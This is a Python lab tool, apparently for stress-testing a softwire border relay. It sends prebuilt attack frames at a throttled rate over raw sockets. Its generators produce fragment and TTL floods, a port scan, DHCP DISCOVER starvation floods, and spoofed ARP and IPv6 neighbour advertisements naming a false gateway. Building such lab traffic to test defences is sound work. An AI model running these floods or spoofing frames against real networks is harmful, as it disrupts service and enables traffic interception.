# SPDX-License-Identifier: BSD-3-Clause
"""Sends the frames of one attack on the packet path, at a rate, until it is ended. A program of its own.

    senders.py KIND --device DEVICE --hub-mac MAC --rate N --throttle FILE

The frames are made before. FILE has 8 octets, a double: the share of the rate that the machine can carry; who started the
program changes it meanwhile. SIGTERM ends it; it then prints the number of frames sent."""

import argparse
import ctypes
import mmap
import signal
import socket
import struct
import time

import frames as f
import lab_facts as facts
from processes import end_with_parent

BURST = 64  # frames of one call; the queue of a virtual wire has 1000
TICK_SECONDS = 0.001
LATE_SECONDS = 0.05  # what could not be sent for longer is not sent later: no bursts after a stall


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    """struct mmsghdr of <sys/socket.h>."""

    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("iov", ctypes.c_void_p),
                ("iov_length", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("sent", ctypes.c_uint32)]


class Sender:
    """Sends the frames in a ring. identifier_at: offset of a 32-bit number that differs in all that are sent."""

    def __init__(self, device, all_frames, identifier_at=None):
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self._socket.bind((device, 0))
        self._octets = ctypes.create_string_buffer(b"".join(all_frames))
        self._libc = ctypes.CDLL(None, use_errno=True)
        self._identifier_at, self._next, self._number = identifier_at, 0, 0
        self._places, at, base = [], 0, ctypes.addressof(self._octets)
        self._messages = (Message * len(all_frames))()
        self._iovecs = (Iovec * len(all_frames))()
        for index, frame in enumerate(all_frames):
            self._iovecs[index] = Iovec(base + at, len(frame))
            message = self._messages[index]
            message.iov, message.iov_length = ctypes.addressof(self._iovecs[index]), 1
            self._places.append(at)
            at += len(frame)

    def send(self, count):
        """Returns the number of frames sent, which is less at the end of the ring or of a queue."""
        first = self._next
        count = min(count, len(self._places) - first, BURST)
        if self._identifier_at is not None:
            for index in range(first, first + count):
                self._number += 1
                struct.pack_into("!I", self._octets, self._places[index] + self._identifier_at, self._number & 0xFFFFFFFF)
        sent = self._libc.sendmmsg(self._socket.fileno(), ctypes.byref(self._messages[first]), count, 0)
        sent = max(sent, 0)  # ENOBUFS: nothing
        self._next = (first + sent) % len(self._places)
        return sent


def stray_fragments6(hub, gateway, b4):
    packet = f.ipv6_fragment(b4, facts.BR, 0, 0, True, bytes(8))
    return [f.frame6(hub, gateway, packet)] * 256, 58


def fragments_bound(hub, gateway):
    return stray_fragments6(hub, gateway, facts.ATTACKER_B4)


def fragments_unbound(hub, gateway):
    return stray_fragments6(hub, gateway, "2001:db8:dead::1")


def fragments_internet(hub, gateway):
    first = struct.pack("!HH", 1024, 1024) + bytes(4)
    return [f.frame4(hub, gateway, f.ipv4(f"203.0.{j >> 8 & 63}.{j & 255}", facts.SHARED, f.UDP, first, j >> 14,
                                          f.MORE_FRAGMENTS)) for j in range(32768)], None


def ttl_internet(hub, gateway):
    return [f.frame4(hub, gateway, f.ipv4(f"203.0.112.{1 + j % 250}", facts.WHOLE, f.UDP, f.udp(1, 2), j, ttl=1))
            for j in range(1000)], None


def ttl_subscriber(hub, gateway):
    inner = [f.ipv4(facts.ATTACKER_WHOLE, "203.0.112.9", f.UDP, f.udp(1, 2), j, ttl=1) for j in range(256)]
    return [f.frame6(hub, gateway, f.in_softwire(facts.ATTACKER_WHOLE_B4, facts.BR, packet)) for packet in inner], None


def port_scan(hub, gateway):
    return [f.frame4(hub, gateway, f.ipv4(f"203.0.112.{1 + j % 250}", facts.SHARED, f.UDP, f.udp(1, 65535 - j % 1000), j))
            for j in range(1000)], None


def discovers(hub, gateway):
    """DISCOVERs from 65,536 prefixes of 64 bits, all without a binding."""
    return discovers_from("2001:db8:bad::1", hub, gateway), None


def discovers_rule(hub, gateway):
    """DISCOVERs from the 65,536 end-user prefixes of a rule."""
    return discovers_from("2001:db8:b000::1", hub, gateway), None


def discovers_from(first, hub, gateway):
    packet = f.dhcp_in_softwire(first, facts.BR, f.dhcp(f.DISCOVER))
    octets = f.frame6(hub, gateway, packet)
    source = 14 + 8
    head, tail = octets[:source + 6], octets[source + 8:]
    return [head + struct.pack("!H", number) + tail for number in range(65536)]


def gateway_lies(hub, gateway):
    """Answers that nobody asked for, with a false MAC address of both gateways. IPv4 and IPv6 have devices of their own."""
    false = f.mac("02:00:00:00:66:66")
    return [f.arp(hub, false, 2, false, facts.EDGE, hub, facts.HUB4)], None


def gateway_lies6(hub, gateway):
    false = f.mac("02:00:00:00:66:66")
    return [f.frame6(hub, false, f.advertisement(facts.ACCESS, facts.ACCESS, false, facts.HUB6))], None


KINDS = {kind.__name__.replace("_", "-"): kind for kind in (
    fragments_bound, fragments_unbound, fragments_internet, ttl_internet, ttl_subscriber, port_scan, discovers,
    discovers_rule, gateway_lies, gateway_lies6)}


def pace(sender, rate, share):
    """Sends until SIGTERM. Returns the number of frames sent."""
    sent, due, last = 0, 0.0, time.monotonic()
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    while not ended:
        now = time.monotonic()
        due = min(due + (now - last) * rate * share(), max(rate * LATE_SECONDS, 1.0))
        last = now
        while due >= 1 and (done := sender.send(int(due))):
            sent, due = sent + done, due - done
        time.sleep(TICK_SECONDS)
    return sent


def main():
    end_with_parent()
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=sorted(KINDS))
    for word in ("--device", "--hub-mac", "--throttle"):
        parser.add_argument(word, required=True)
    parser.add_argument("--rate", type=float, required=True)
    wanted = parser.parse_args()
    all_frames, identifier_at = KINDS[wanted.kind](f.mac(wanted.hub_mac), f.mac("02:00:00:00:00:99"))
    sender = Sender(wanted.device, all_frames, identifier_at)
    with open(wanted.throttle, "rb") as file:
        shared = mmap.mmap(file.fileno(), 8, access=mmap.ACCESS_READ)
    print("started", flush=True)
    print("sent", pace(sender, wanted.rate, lambda: struct.unpack("=d", shared[:8])[0]), flush=True)


if __name__ == "__main__":
    main()
